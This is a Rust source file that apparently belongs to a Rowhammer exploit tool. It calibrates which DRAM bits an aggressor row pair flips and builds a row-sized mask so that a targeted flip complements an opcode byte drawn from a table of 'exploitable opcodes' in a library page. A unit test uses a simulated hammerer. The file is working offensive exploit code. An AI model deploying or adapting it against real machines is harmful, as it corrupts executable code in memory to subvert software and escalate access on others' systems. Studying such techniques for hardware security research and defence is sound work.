//! Aggressor payload construction for a discovered template.
//!
//! The same aggressor pair that produced a template also flips other victim
//! positions. Before the real hammering run, two calibration hammers learn
//! which positions flip in which direction under this specific pair, and the
//! mask is composed so that only the intended flip survives: positions that
//! flip 1 to 0 get 0xFF, positions that flip 0 to 1 get 0x00, and the byte at
//! the template's intra-page offset carries the payload, the complement of
//! the original opcode byte.

use crate::config::HammerConfig;
use crate::hammerer::Hammering;
use crate::memory::{
    BytePointer, DramConfig, Memory, RowNeighbor, VictimBuffer, adjacent_row, in_entropy_padding,
    row_align,
};
use crate::opcodes::Template;
use crate::util::ROW_SIZE;
use log::{debug, trace};

/// A row-sized byte payload written into both aggressor rows before the
/// exploitation hammering.
pub struct AggressorMask {
    bytes: Vec<u8>,
}

impl AggressorMask {
    /// The payload bytes, one full row.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }
}

/// Calibrates the aggressor pair around `template`'s victim row and builds
/// the mask that reproduces exactly the desired flip.
///
/// `opcode_byte` is the original library byte at the template offset; the
/// mask byte at the template's intra-page offset becomes its complement.
///
/// # Errors
///
/// Returns the hammerer's error if a calibration hammer fails.
pub fn build_aggressor_mask<H: Hammering>(
    memory: &Memory,
    dram: &DramConfig,
    config: &HammerConfig,
    hammerer: &H,
    template: &Template,
    opcode_byte: u8,
) -> Result<AggressorMask, H::Error> {
    let vic = row_align(template.page_base(), dram);
    let agg1 = adjacent_row(vic, RowNeighbor::Previous, dram);
    let agg2 = adjacent_row(vic, RowNeighbor::Next, dram);
    debug!(
        "calibrating aggressors {:#x} / {:#x} around victim row {:#x}",
        agg1, agg2, vic
    );

    // which positions this pair pulls from 1 to 0
    memory.fill_row_body(agg1, 0x00);
    memory.fill_row_body(agg2, 0x00);
    memory.fill_row_body(vic, 0xFF);
    hammerer.hammer(
        memory.addr(agg1),
        memory.addr(agg2),
        config.num_row_activations,
    )?;
    let row = memory.read_row(vic);
    let high_to_low: Vec<bool> = row
        .iter()
        .enumerate()
        .map(|(i, &value)| !in_entropy_padding(i) && value != 0xFF)
        .collect();

    // and which it pushes from 0 to 1
    memory.fill_row_body(agg1, 0xFF);
    memory.fill_row_body(agg2, 0xFF);
    memory.fill_row_body(vic, 0x00);
    hammerer.hammer(
        memory.addr(agg1),
        memory.addr(agg2),
        config.num_row_activations,
    )?;
    let row = memory.read_row(vic);
    let low_to_high: Vec<bool> = row
        .iter()
        .enumerate()
        .map(|(i, &value)| !in_entropy_padding(i) && value != 0x00)
        .collect();

    debug!(
        "calibration flips: {} high-to-low, {} low-to-high",
        high_to_low.iter().filter(|&&f| f).count(),
        low_to_high.iter().filter(|&&f| f).count()
    );

    let mut bytes = vec![0u8; ROW_SIZE];
    for i in 0..ROW_SIZE {
        if high_to_low[i] {
            bytes[i] = 0xFF;
        }
        // 0 -> 1 flips are more common under this data pattern, they win ties
        if low_to_high[i] {
            bytes[i] = 0x00;
        }
    }
    bytes[template.op.page_offset()] = !opcode_byte;
    for (i, &byte) in bytes.iter().enumerate() {
        if byte != 0x00 {
            trace!("aggressor mask at {:#x}: {:#04x}", i, byte);
        }
    }
    Ok(AggressorMask { bytes })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::memory::DramAddr;
    use crate::opcodes::{EXPLOITABLE_OPCODES, FlipDirection, OpcodeEntry};
    use crate::util::HUGE_PAGE_SIZE;
    use std::convert::Infallible;

    struct TestHammer<'a> {
        callback: &'a dyn Fn(*const u8, *const u8),
    }

    impl Hammering for TestHammer<'_> {
        type Error = Infallible;

        fn hammer(
            &self,
            agg1: *const u8,
            agg2: *const u8,
            _activations: u64,
        ) -> Result<(), Self::Error> {
            (self.callback)(agg1, agg2);
            Ok(())
        }
    }

    fn opcode(file_offset: usize, bit_index: u8) -> OpcodeEntry {
        *EXPLOITABLE_OPCODES
            .iter()
            .find(|op| op.file_offset == file_offset && op.bit_index == bit_index)
            .expect("opcode not in table")
    }

    #[test]
    fn test_mask_payload_and_calibration() -> anyhow::Result<()> {
        let memory = Memory::mmap(HUGE_PAGE_SIZE)?;
        memory.fill(0xFF);
        memory.add_entropy();
        let dram = DramConfig::ddr3();
        let config = HammerConfig {
            num_row_activations: 1,
            hammering_rounds: 1,
            ..HammerConfig::default()
        };

        let vic = DramAddr::for_bank(0, 1, &dram).to_offset(&dram);
        let template = Template {
            offset: vic + 0xdcf,
            op: opcode(0x8dcf, 0),
        };
        assert_eq!(template.op.direction, FlipDirection::ZeroToOne);

        // 0x210 flips 0 -> 1, 0x340 flips 1 -> 0, 0xdcf is the template byte
        let flip = |_agg1: *const u8, _agg2: *const u8| {
            unsafe {
                let p = memory.addr(vic + 0x210);
                if *p & 0x01 == 0 {
                    *p |= 0x01;
                }
                let p = memory.addr(vic + 0x340);
                if *p & 0x04 != 0 {
                    *p &= !0x04;
                }
                let p = memory.addr(vic + 0xdcf);
                if *p & 0x01 == 0 {
                    *p |= 0x01;
                }
            }
        };
        let hammerer = TestHammer { callback: &flip };

        let mask = build_aggressor_mask(&memory, &dram, &config, &hammerer, &template, 0x01)?;
        assert_eq!(mask.bytes().len(), ROW_SIZE);
        // payload byte is the complement of the original opcode byte
        assert_eq!(mask.bytes()[0xdcf], 0xFE);
        assert_eq!(mask.bytes()[0x210], 0x00);
        assert_eq!(mask.bytes()[0x340], 0xFF);

        memory.dealloc();
        Ok(())
    }
}
